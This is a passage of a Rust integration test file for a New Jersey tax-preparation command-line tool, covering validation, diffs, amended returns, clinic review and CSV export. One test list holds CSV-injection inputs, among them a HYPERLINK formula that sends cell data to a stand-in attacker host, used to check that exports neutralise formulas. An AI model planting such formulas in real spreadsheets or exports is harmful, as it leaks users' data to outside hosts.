        .replace("\"52340.18\"", &format!("\"{ssn}\""));
    let dir = temp_dir("ssn-in-amount");
    let path = dir.join("typo.ron");
    std::fs::write(&path, &text).unwrap();
    let out = njtax(&["validate", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("typo.ron: line 19, column") && err.contains("“state_wages” is not an amount"),
        "{err}"
    );
    assert!(!err.contains(ssn) && !err.contains("6789"), "{err}");

    let summary = dir.join("out").join("summary.csv");
    std::fs::create_dir_all(summary.parent().unwrap()).unwrap();
    let out = njtax(&[
        "batch",
        path.to_str().unwrap(),
        "-o",
        summary.to_str().unwrap(),
        "--force",
    ]);
    assert_eq!(out.status.code(), Some(2));
    let csv = std::fs::read_to_string(&summary).unwrap();
    let rows = parse_csv(&csv);
    assert_eq!(rows[1][4], "unreadable", "{rows:?}");
    assert!(
        rows[1][10].contains("“state_wages” is not an amount"),
        "{rows:?}"
    );
    assert!(!csv.contains(ssn) && !csv.contains("6789"), "{csv}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains(ssn), "{stdout}");

    // Kept as text typed in the app that could not be read (format 7): named, not repeated.
    let kept = std::fs::read_to_string(example("single-renter.ron"))
        .unwrap()
        .replace("\"52340.18\"", "\"0\"")
        .replace(
            "answers: (",
            &format!(
                "answers: (unreadable: {{\"income.w2s[0].state_wages\": (typed: \"{ssn}\", field: \"State wages\", problem: \"A minus sign goes first, as in -50\")}}, "
            ),
        );
    let kept_path = dir.join("kept.ron");
    std::fs::write(&kept_path, kept).unwrap();
    let out = njtax(&["validate", kept_path.to_str().unwrap()]);
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(1), "{all}");
    assert!(all.contains("State wages could not be read"), "{all}");
    assert!(!all.contains(ssn) && !all.contains("6789"), "{all}");
}

/// The command line reads drafts as the app does: a byte-order mark is skipped, text that is not
/// UTF-8 is located by line and column, and a file larger than any draft is refused unread.
#[test]
fn drafts_are_read_as_the_app_reads_them_bom_non_utf8_and_size() {
    let text = std::fs::read_to_string(example("single-renter.ron")).unwrap();
    let dir = temp_dir("reader");
    let bom = dir.join("bom.ron");
    std::fs::write(&bom, format!("\u{feff}{text}")).unwrap();
    let out = njtax(&["validate", bom.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let latin1 = dir.join("latin1.ron");
    let mut bytes = text
        .replacen("Maria Lopez", "Mar\u{ed}a Lopez", 1)
        .into_bytes();
    let at = bytes.windows(2).position(|w| w == "í".as_bytes()).unwrap();
    bytes.splice(at..at + 2, [0xed]);
    std::fs::write(&latin1, &bytes).unwrap();
    let line = text
        .lines()
        .position(|l| l.contains("Maria Lopez"))
        .unwrap()
        + 1;
    let column = text.lines().nth(line - 1).unwrap().find("Maria").unwrap() + 4;
    for args in [
        vec!["validate", latin1.to_str().unwrap()],
        vec!["compute", latin1.to_str().unwrap()],
    ] {
        let out = njtax(&args);
        assert_eq!(out.status.code(), Some(2));
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!("latin1.ron: line {line}, column {column}: ")),
            "{err}"
        );
        assert!(!err.contains("stream did not contain valid UTF-8"), "{err}");
    }
    let out = njtax(&["batch", latin1.to_str().unwrap()]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains(&format!("line {line}, column {column}")),
        "{stdout}"
    );

    let big = dir.join("big.ron");
    let limit = usize::try_from(njtax_engine::draft::MAX_DRAFT_BYTES).unwrap();
    std::fs::write(&big, format!("{text}{}", " ".repeat(limit))).unwrap();
    let out = njtax(&["validate", big.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("big.ron: the file is 4.1 MB, larger than any draft")
            && err.contains("up to 4 MB"),
        "{err}"
    );
}

/// `njtax coverage` prints every entry of the coverage list under its status, with the latest
/// year's line numbers; `--not-covered` only what the app does not cover, each with what to do;
/// the README's "What it does not cover" names every one of them (the same words).
#[test]
fn coverage_prints_the_list_and_the_readme_names_what_is_not_covered() {
    use njtax_engine::coverage::{Coverage, Status};
    let list = Coverage::load().unwrap();
    let out = njtax(&["coverage"]);
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    for heading in [
        "== computed ==",
        "== entered by you ==",
        "== not taxed, not asked ==",
        "== not covered ==",
    ] {
        assert!(text.contains(heading), "{heading}");
    }
    for e in &list.entries {
        assert!(text.contains(&e.subject), "{}", e.subject);
    }
    // The property tax deduction is on line 41 of the latest year's form (its line map decides).
    assert!(text.contains("line 40a, line 41"), "{text}");
    let only = String::from_utf8(njtax(&["coverage", "--not-covered"]).stdout).unwrap();
    assert!(!only.contains("== computed =="));
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    let readme = readme.split_whitespace().collect::<Vec<_>>().join(" ");
    let mut not_covered = 0;
    for e in list
        .entries
        .iter()
        .filter(|e| e.status == Status::NotCovered)
    {
        not_covered += 1;
        assert!(
            only.contains(&e.subject) && only.contains(&e.note),
            "{}",
            e.subject
        );
        let words = e.subject.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(
            readme.contains(&words),
            "README does not name: {}",
            e.subject
        );
    }
    assert!(
        not_covered >= 10,
        "the issue's list: amended returns, fiscal years, 5-13, ..."
    );
}

fn compare_fixture(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/compare")
        .join(name)
        .display()
        .to_string()
}

#[test]
fn diff_prints_each_changed_line_with_its_cause_and_exits_1() {
    let (old, new) = (
        compare_fixture("w2-corrected-old.ron"),
        compare_fixture("w2-corrected-new.ron"),
    );
    let out = njtax(&["diff", &old, &new]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = text.lines().collect();
    // Line 15 rose by the wage correction, and says so with the W-2 under it.
    let at = lines
        .iter()
        .position(|l| l.starts_with("NJ-1040 line 15 "))
        .expect("line 15 is listed");
    assert!(lines[at].ends_with("(+$3,400.00)"), "{}", lines[at]);
    assert_eq!(
        lines[at + 1],
        "  because W-2 #2 (Acme Corp): state wages 41,000.00 -> 44,400.00"
    );
    // Line 43: its old and new values as `compute` gives them, then line 42 and the W-2.
    let tax = |path: &str| -> String {
        let v: serde_json::Value =
            serde_json::from_slice(&njtax(&["compute", path, "--json"]).stdout).unwrap();
        v["lines"]["43"].as_str().unwrap().to_owned()
    };
    let money = |s: &str| njtax_engine::money::fmt_money(s.parse().unwrap());
    let at = lines
        .iter()
        .position(|l| l.starts_with("NJ-1040 line 43 "))
        .expect("line 43 is listed");
    assert!(
        lines[at].contains(&format!("{} -> {}", money(&tax(&old)), money(&tax(&new)))),
        "{}",
        lines[at]
    );
    assert_eq!(
        lines[at + 1],
        "  because line 42 New Jersey taxable income: +$3,400.00"
    );
    assert_eq!(
        lines[at + 2],
        "    because W-2 #2 (Acme Corp): state wages 41,000.00 -> 44,400.00"
    );
    assert!(text.contains("\nAnswers changed:\n"));
    assert!(!text.contains("Law figures that changed"));
}

#[test]
fn diff_json_has_the_years_returns_lines_causes_and_items() {
    let out = njtax(&[
        "diff",
        &compare_fixture("dependent-added-old.ron"),
        &compare_fixture("dependent-added-new.ron"),
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["old_year"], 2024);
    assert_eq!(v["new_year"], 2024);
    let ret = &v["returns"][0];
    assert_eq!(ret["form"], "NJ-1040");
    assert_eq!(ret["presence"], "both");
    let l10 = ret["lines"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["key"] == "exemption_children")
        .expect("line 10 changed");
    assert_eq!(l10["new_id"], "10");
    assert_eq!(l10["difference"], "1500.00");
    assert!(
        l10["causes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["cause"] == "item"
                && c["words"] == "Dependent #2 (Mateo Ramirez)"
                && c["added"] == true),
        "{}",
        l10["causes"]
    );
    assert_eq!(v["items_added"][0]["list"], "dependents");
    assert_eq!(v["items_removed"].as_array().map(Vec::len), Some(0));
}

#[test]
fn diff_of_a_draft_with_itself_exits_0_and_an_unreadable_draft_exits_2() {
    let same = compare_fixture("year-2026.ron");
    let out = njtax(&["diff", &same, &same]);
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stdout).contains("No computed line differs."));
    let out = njtax(&["diff", &same, &same, "--json"]);
    assert_eq!(out.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["returns"][0]["lines"].as_array().unwrap().is_empty());

    let broken = temp_draft("diff-broken.ron", "Draft(format_version: 9, answers: (");
    let out = njtax(&["diff", &same, broken.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("diff-broken.ron"), "{err}");
    let out = njtax(&["diff", "/no/such/old.ron", &same]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/no/such/old.ron"));
}

#[test]
fn diff_across_years_lists_the_law_figures_that_changed() {
    let out = njtax(&[
        "diff",
        &compare_fixture("year-2025.ron"),
        &compare_fixture("year-2026.ron"),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.starts_with("Comparing a tax year 2025 draft with a tax year 2026 draft."));
    let at = text.find("NJ-1040 line 65 ").expect("line 65 is listed");
    let block: String = text[at..].lines().take(6).collect::<Vec<_>>().join("\n");
    assert!(
        block.contains("(credits.ctc_tiers) changed from"),
        "{block}"
    );
    assert!(text.contains("\nLaw figures that changed:\n"));
    assert!(text.contains("warning[provisional-year]"));
}

/// `njtax amend` writes the amended draft of a filed one (the figures as filed kept as column A,
/// the original answers kept), refuses to overwrite without --force, and `compute` on the
/// corrected amended draft prints the three columns, the result and the explanation of changes.
#[test]
fn amend_writes_the_amended_draft_and_compute_prints_its_columns_and_explanation() {
    let dir = std::env::temp_dir().join(format!("njtax-cli-amend-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let original = format!(
        "{}/tests/fixtures/amended/a-corrected-w2-original.ron",
        env!("CARGO_MANIFEST_DIR")
    );
    let path = dir.join("amended.ron");
    let out = njtax(&["amend", &original, "--out", &path.display().to_string()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("column A"));
    let again = njtax(&["amend", &original, "--out", &path.display().to_string()]);
    assert_eq!(again.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&again.stderr).contains("--force"));
    // Correct the W-2, give the reason and the day it is mailed.
    let mut d = njtax_engine::parse_draft(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let am = d.answers.amends.as_ref().unwrap();
    assert!(am.original[0].from_draft);
    assert_eq!(
        am.original[0].lines.get(&njtax_engine::Key::Tax),
        Some(&rust_decimal::Decimal::from(1327))
    );
    d.answers.income.w2s[0].state_wages = rust_decimal::Decimal::from(55400);
    let am = d.answers.amends.as_mut().unwrap();
    am.reasons.corrected_statement = true;
    am.filed_on = njtax_engine::answers::Date::new(2026, 11, 16);
    std::fs::write(&path, njtax_engine::draft::draft_to_string(&d).unwrap()).unwrap();
    let out = njtax(&["compute", &path.display().to_string()]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Amended return (NJ-1040X)"), "{text}");
    let tax_row = text
        .lines()
        .skip_while(|l| !l.starts_with("Amended return"))
        .find(|l| l.trim_start().starts_with("43 "))
        .unwrap_or_default();
    assert!(
        tax_row.contains("$1,327.00")
            && tax_row.contains("$187.00")
            && tax_row.contains("$1,514.00"),
        "{tax_row}"
    );
    assert!(
        text.contains("Amended: additional tax due $187.00"),
        "{text}"
    );
    assert!(text.contains("Interest (estimate) $12.47"), "{text}");
    assert!(
        text.contains(
            "Explanation of changes: Amended because: A corrected or missing W-2 or 1099."
        ) && text.contains("state wages 52,000.00 to 55,400.00"),
        "{text}"
    );
    let json = njtax(&["compute", "--json", &path.display().to_string()]);
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v["amended"]["form"], "NJ-1040X");
    assert_eq!(v["amended"]["balance_due"], "187.00");
    assert!(
        v["explanation_of_changes"]
            .as_str()
            .is_some_and(|s| s.contains("Additional tax due: $187.00."))
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// A clinic folder's roster: every draft with its status, filtered by status and searched by
/// name or SSN's last four; `status` and `note` change a draft in place and sign it.
#[test]
fn clinic_roster_status_and_notes_work_on_a_folder_of_drafts() {
    let dir = std::env::temp_dir().join(format!("njtax-cli-clinic-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for name in [
        "single-renter.ron",
        "retired-couple-pensions.ron",
        "ny-commuter-coj.ron",
    ] {
        std::fs::copy(example(name), dir.join(name)).unwrap();
    }
    std::fs::write(
        dir.join("broken.ron"),
        "Draft(format_version: 9, answers: (",
    )
    .unwrap();
    let renter = dir.join("single-renter.ron").display().to_string();
    let d = dir.display().to_string();
    let out = njtax(&["status", &renter, "--set", "ready", "--as", "Pat Lee"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = njtax(&[
        "note",
        &renter,
        "--add",
        "check box 16",
        "--on",
        "income.w2s[0].state_wages",
        "--as",
        "Sam Ortiz",
    ]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("note 1 added"));
    let out = njtax(&[
        "note",
        &renter,
        "--add",
        "why?",
        "--line",
        "not_a_line",
        "--as",
        "Sam Ortiz",
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no line key"));
    // Approving without a name is refused by the command line itself.
    let out = njtax(&["status", &renter, "--set", "approved"]);
    assert_eq!(out.status.code(), Some(2));
    // The preparer approving their own return is refused (any spelling of the name), and so is
    // asking for changes on it; the draft is not touched.
    let before = std::fs::read(dir.join("single-renter.ron")).unwrap();
    for (set, name) in [
        ("approved", "Pat Lee"),
        ("approved", "pat  lee"),
        ("changes", "Pat Lee"),
    ] {
        let out = njtax(&["status", &renter, "--set", set, "--as", name]);
        assert_eq!(out.status.code(), Some(1), "{set} {name}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("Pat Lee prepared this return"), "{err}");
    }
    assert_eq!(
        std::fs::read(dir.join("single-renter.ron")).unwrap(),
        before
    );
    let out = njtax(&["status", &renter, "--set", "approved", "--as", "Sam Ortiz"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Filing an approved return.
    let out = njtax(&[
        "status",
        &renter,
        "--filed",
        "2025-03-01",
        "--how",
        "online",
        "--as",
        "Sam Ortiz",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let record = njtax(&["status", &renter]);
    let text = String::from_utf8_lossy(&record.stdout);
    assert!(text.starts_with("Status: filed"), "{text}");
    assert!(text.contains("Prepared by: Pat Lee") && text.contains("Reviewed by: Sam Ortiz"));
    assert!(text.contains("#1 on answer income.w2s[0].state_wages, by Sam Ortiz (login "));
    // Every step of the history names the login and computer it was signed from.
    let history: Vec<&str> = text
        .lines()
        .skip_while(|l| *l != "History:")
        .skip(1)
        .take_while(|l| l.starts_with("  "))
        .collect();
    assert_eq!(history.len(), 3, "{text}");
    let login = njtax_ui::review::os_login();
    assert!(
        history
            .iter()
            .all(|l| l.contains(&format!("(login {login}"))),
        "{text}"
    );
    // The roster.
    let out = njtax(&["clinic", &d]);
    assert!(out.status.success());
    let roster = String::from_utf8_lossy(&out.stdout);
    let renter_row = roster
        .lines()
        .find(|l| l.starts_with("single-renter.ron"))
        .unwrap();
    assert!(
        renter_row.contains("Maria Lopez") && renter_row.contains("…1001"),
        "{renter_row}"
    );
    assert!(
        renter_row.contains("filed") && renter_row.contains("Pat Lee"),
        "{renter_row}"
    );
    assert!(
        !roster.contains("400-00-1001"),
        "no whole SSN in the roster"
    );
    assert!(
        roster
            .lines()
            .any(|l| l.starts_with("broken.ron") && l.contains("unreadable"))
    );
    assert!(roster.contains("4 draft(s)"));
    let only_filed = njtax(&["clinic", &d, "--status", "filed", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&only_filed.stdout).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 1);
    assert_eq!(v[0]["file"], "single-renter.ron");
    assert_eq!(v[0]["status"], "Filed");
    assert_eq!(v[0]["open_notes"], 1);
    let search = njtax(&["clinic", &d, "--search", "brennan", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&search.stdout).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 1);
    assert_eq!(v[0]["file"], "retired-couple-pensions.ron");
    let bad = njtax(&["clinic", &d, "--status", "done"]);
    assert_eq!(bad.status.code(), Some(2));
    // The batch summary carries the clinic columns.
    let csv_path = dir.join("summary.csv");
    let out = njtax(&["batch", &d, "-o", &csv_path.display().to_string()]);
    assert!(out.status.code().is_some());
    let csv = std::fs::read_to_string(&csv_path).unwrap();
    assert!(
        csv.lines()
            .next()
            .unwrap()
            .ends_with(",clinic_status,preparer,open_notes")
    );
    assert!(
        csv.lines()
            .any(|l| l.contains("single-renter.ron") && l.ends_with(",filed,Pat Lee,1")),
        "{csv}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// Two processes adding notes to one draft at the same time: every note of both is kept (no lost
/// update), numbered once each, and the draft still reads.
#[test]
fn two_processes_changing_one_draft_at_once_lose_no_update() {
    let dir = std::env::temp_dir().join(format!("njtax-cli-race-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let draft = dir.join("client.ron");
    std::fs::copy(example("single-renter.ron"), &draft).unwrap();
    let path = draft.display().to_string();
    const EACH: usize = 15;
    let writers: Vec<std::thread::JoinHandle<()>> = ["Pat", "Sam"]
        .into_iter()
        .map(|who| {
            let path = path.clone();
            std::thread::spawn(move || {
                for i in 0..EACH {
                    let out = njtax(&["note", &path, "--add", &format!("{who} {i}"), "--as", who]);
                    assert!(
                        out.status.success(),
                        "{}",
                        String::from_utf8_lossy(&out.stderr)
                    );
                }
            })
        })
        .collect();
    for w in writers {
        w.join().unwrap();
    }
    let d = njtax_engine::parse_draft(&std::fs::read_to_string(&draft).unwrap()).unwrap();
    let notes = d.answers.clinic.unwrap().notes;
    assert_eq!(notes.len(), 2 * EACH, "every note of both writers is kept");
    let mut ids: Vec<u32> = notes.iter().map(|n| n.id).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), 2 * EACH, "numbered once each");
    for who in ["Pat", "Sam"] {
        for i in 0..EACH {
            let text = format!("{who} {i}");
            assert!(
                notes.iter().any(|n| n.text == text && n.by == who),
                "{text}"
            );
        }
    }
    assert!(
        !dir.join(".client.ron.update").exists(),
        "the update lock is gone"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// The names a spreadsheet would run as formulas (OWASP "CSV injection"), one client each.
const FORMULA_NAMES: [&str; 4] = [
    "=HYPERLINK(\"http://attacker.test/?x=\"&A1,\"Open\")",
    "+1",
    "-2+3",
    "@SUM(A1)",
];

/// Whether a CSV field is safe to open in a spreadsheet: it does not start like a formula, or it
/// is a plain amount or number, or it starts with the neutralising `'`.
fn spreadsheet_safe(field: &str) -> bool {
    !field.starts_with(['=', '+', '-', '@', '\t', '\r'])
        || njtax_engine::csv::is_plain_number(field)
}

/// Every CSV the command line writes (`batch -o`, `export --format csv`, `handoff --format csv`)
/// shows a client named like a formula as text: the name with a leading `'`, and no field of any
/// row starts like a formula unless it is a plain number.
#[test]
fn csv_outputs_write_a_name_that_looks_like_a_formula_as_text() {
    let dir = temp_dir("csv-formulas");
    let base = std::fs::read_to_string(example("single-renter.ron")).unwrap();
    let mut files = Vec::new();
    for (i, name) in FORMULA_NAMES.iter().enumerate() {
        let ron_name = name.replace('"', "\\\"");
        let text = base
            .replace("\"Maria Lopez\"", &format!("\"{ron_name}\""))
            .replace("\"Harborside Logistics LLC\"", &format!("\"{ron_name}\""));
        assert_ne!(text, base);
        let path = dir.join(format!("client-{i}.ron"));
        std::fs::write(&path, text).unwrap();
        files.push(path.display().to_string());
    }
    let summary = dir.join("summary.csv");
    let mut args = vec!["batch"];
    args.extend(files.iter().map(String::as_str));
    args.extend(["-o", summary.to_str().unwrap()]);
    let out = njtax(&args);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{out:?}");
    let rows = parse_csv(&std::fs::read_to_string(&summary).unwrap());
    assert_eq!(rows.len(), 1 + FORMULA_NAMES.len());
    for (row, name) in rows[1..].iter().zip(FORMULA_NAMES) {
        assert_eq!(row[1], format!("'{name}"), "the name column is text");
        // The amounts are numbers, as before.
        for amount in &row[5..9] {
            assert!(amount.parse::<rust_decimal::Decimal>().is_ok(), "{amount}");
        }
    }
    let mut outputs = vec![std::fs::read_to_string(&summary).unwrap()];
    for f in &files {
        for args in [
            vec!["export", f.as_str(), "--format", "csv"],
            vec!["handoff", f.as_str(), "--format", "csv"],
        ] {
            let out = njtax(&args);
            assert!(
                matches!(out.status.code(), Some(0 | 1)),
                "{args:?}: {out:?}"
            );
            outputs.push(String::from_utf8(out.stdout).unwrap());
        }
    }
    for text in &outputs {
        for row in parse_csv(text) {
            for field in &row {
                assert!(spreadsheet_safe(field), "{field:?} in {row:?}");
            }
        }
    }
    // The hand-off sheet names the taxpayer: as text.
    let handoff = parse_csv(&outputs[2]);
    assert!(
        handoff
            .iter()
            .any(|r| r[2] == format!("'{}", FORMULA_NAMES[0])),
        "{handoff:?}"
    );
}

/// `njtax diff` says the same, word for word, as it did before comparing was made fast for
/// clinic-size drafts (issue 37): each pair under `tests/fixtures/compare-scale/` (example drafts
/// of every kind, across years, an amended return, and made-up drafts with W-2s and review notes
/// added, removed and changed) with the text and, where kept, the JSON the earlier code printed.
#[test]
fn diff_output_is_unchanged_by_the_faster_comparison() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/compare-scale");
    let mut cases: Vec<PathBuf> = std::fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    cases.sort();
    assert!(cases.len() >= 15, "{cases:?}");
    let mut json_checked = 0;
    for case in &cases {
        let (old, new) = (case.join("old.ron"), case.join("new.ron"));
        let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
        let out = njtax(&["diff", old, new]);
        let expected = std::fs::read_to_string(case.join("diff.txt")).unwrap();
        assert_eq!(
            String::from_utf8(out.stdout).unwrap(),
            expected,
            "{}",
            case.display()
        );
        let json = case.join("diff.json");
        if json.exists() {
            let out = njtax(&["diff", old, new, "--json"]);
            assert_eq!(
                String::from_utf8(out.stdout).unwrap(),
                std::fs::read_to_string(&json).unwrap(),
                "{}",
                case.display()
            );
            json_checked += 1;
        }
    }
    assert!(json_checked >= 8);
}

/// A clinic folder and a client's name with spaces and accents (`Clínica Año 2026/José
/// Núñez.ron`): the command line computes the draft, changes it in place under its update lock
/// (a note, a status: saved with a backup, the lock removed afterwards) and writes its PDF and
/// hand-off sheet there.
#[test]
fn a_folder_and_a_name_with_spaces_and_accents_work_for_every_command() {
    let base = temp_dir("accents");
    let folder = base.join("Clínica Año 2026");
    std::fs::create_dir(&folder).unwrap();
    let draft = folder.join("José Núñez.ron");
    std::fs::copy(example("single-renter.ron"), &draft).unwrap();
    let d = draft.to_str().unwrap();
    let out = njtax(&["compute", d]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = njtax(&[
        "note",
        d,
        "--add",
        "Revisé el W-2 con la clienta",
        "--as",
        "Íñigo Peña",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = njtax(&["status", d]);
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        said.contains("Revisé el W-2 con la clienta") && said.contains("Íñigo Peña"),
        "{said}"
    );
    assert!(folder.join("José Núñez.ron.bak1").is_file(), "the backup");
    let pdf = folder.join("José Núñez.pdf");
    let out = njtax(&["pdf", d, "-o", pdf.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(std::fs::read(&pdf).unwrap().starts_with(b"%PDF"));
    let sheet = folder.join("José Núñez hand-off.txt");
    let out = njtax(&["handoff", d, "-o", sheet.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut names: Vec<String> = std::fs::read_dir(&folder)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "José Núñez hand-off.txt",
            "José Núñez.pdf",
            "José Núñez.ron",
            "José Núñez.ron.bak1"
        ],
        "no lock or temporary file left"
    );
}

/// Issue 39 item 9: `njtax handoff` and `njtax pdf` take a return without a filing date as filed
/// today, as the app does, so a 2019 refund whose last day (2023-07-17, 54A:9-8 a, d) has passed is
/// handed off as barred, never as a refund figure; filed in time (a filing date given), the refund
/// is handed off.
#[test]
fn a_refund_barred_by_today_is_handed_off_as_barred_by_the_command_line() {
    let draft = example("back-years/2019-04-single-pension-total-income-exactly-100000.ron");
    let out = njtax(&["handoff", &draft]);
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("Refund amount: none: barred"), "{text}");
    assert!(!text.contains("Refund amount: $210.00"), "{text}");
    // `njtax compute` says the same: no refund figure in the refund's place.
    let out = njtax(&["compute", &draft]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("Refund: none if filed today ("), "{text}");
    assert!(!text.contains("Refund: $210.00"), "{text}");
    // So does `njtax batch`.
    let out = njtax(&["batch", &draft]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains("barred") && !text.contains("$210.00"),
        "{text}"
    );
    // The same return filed in time keeps its refund.
    let dir = std::env::temp_dir().join(format!("njtax-barred-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mut d = njtax_engine::parse_draft(&std::fs::read_to_string(&draft).unwrap()).unwrap();
    d.answers.filing.filed_on = njtax_engine::answers::Date::new(2020, 7, 1);
    let in_time = dir.join("in-time.ron");
    std::fs::write(&in_time, njtax_engine::draft::draft_to_string(&d).unwrap()).unwrap();
    let out = njtax(&["handoff", in_time.to_str().unwrap()]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("$210.00"), "{text}");
    assert!(!text.contains("barred"), "{text}");
    let out = njtax(&["compute", in_time.to_str().unwrap()]);
    assert!(
        String::from_utf8(out.stdout)
            .unwrap()
            .contains("Refund: $210.00")
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// The amended return's text never leads with the corrected return's overpayment as a "Refund":
/// what the amended return refunds is its own line (issue 39; the checker's New York notice
/// return: corrected overpayment $1,863.99, refund claimed $1,672.02 under 54A:4-1 e).
#[test]
fn an_amended_returns_text_names_the_corrected_overpayment_and_the_amended_refund_apart() {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/amended/f-new-york-notice-typed-figures.ron");
    let out = njtax(&["compute", path.to_str().unwrap()]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(!text.lines().any(|l| l.starts_with("Refund:")), "{text}");
    assert!(
        text.contains("Corrected return (column C) overpayment: $1,863.99"),
        "{text}"
    );
    assert!(text.contains("Amended: refund claimed $1,672.02"), "{text}");
}

/// Issue 39 (the checker's F4): `njtax batch` and the clinic roster show what an amended return
/// refunds, never the corrected return's overpayment: "barred" when the time limits bar all of it
/// (the New York notice fixture mailed 2027-02-02, after the notice's year; corrected overpayment
/// $1,863.99), the allowed part with the rest said to be barred (the federal change fixture:
/// $552.50 of $751.40; corrected overpayment $525.65).
#[test]
fn batch_and_the_roster_show_an_amended_returns_barred_refund_as_barred() {
    let dir = temp_dir("amended-barred-batch");
    let fixtures = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/amended");
    let f = std::fs::read_to_string(fixtures.join("f-new-york-notice-typed-figures.ron")).unwrap();
    let mut d = njtax_engine::parse_draft(&f).unwrap();
    d.answers.amends.as_mut().unwrap().filed_on = njtax_engine::answers::Date::new(2027, 2, 2);
    std::fs::write(
        dir.join("barred.ron"),
        njtax_engine::draft::draft_to_string(&d).unwrap(),
    )
    .unwrap();
    std::fs::copy(
        fixtures.join("g-federal-change-typed-figures.ron"),
        dir.join("part.ron"),
    )
    .unwrap();
    let out = njtax(&["batch", dir.to_str().unwrap()]);
    let text = String::from_utf8(out.stdout).unwrap();
    let row = |text: &str, name: &str| {
        text.lines()
            .find(|l| l.contains(name))
            .unwrap_or_else(|| panic!("no row {name}: {text}"))
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert!(
        row(&text, "barred.ron").contains(" barred $0.00 "),
        "{text}"
    );
    assert!(
        !text.contains("$1,863.99") && !text.contains("$1,672.02"),
        "{text}"
    );
    assert!(
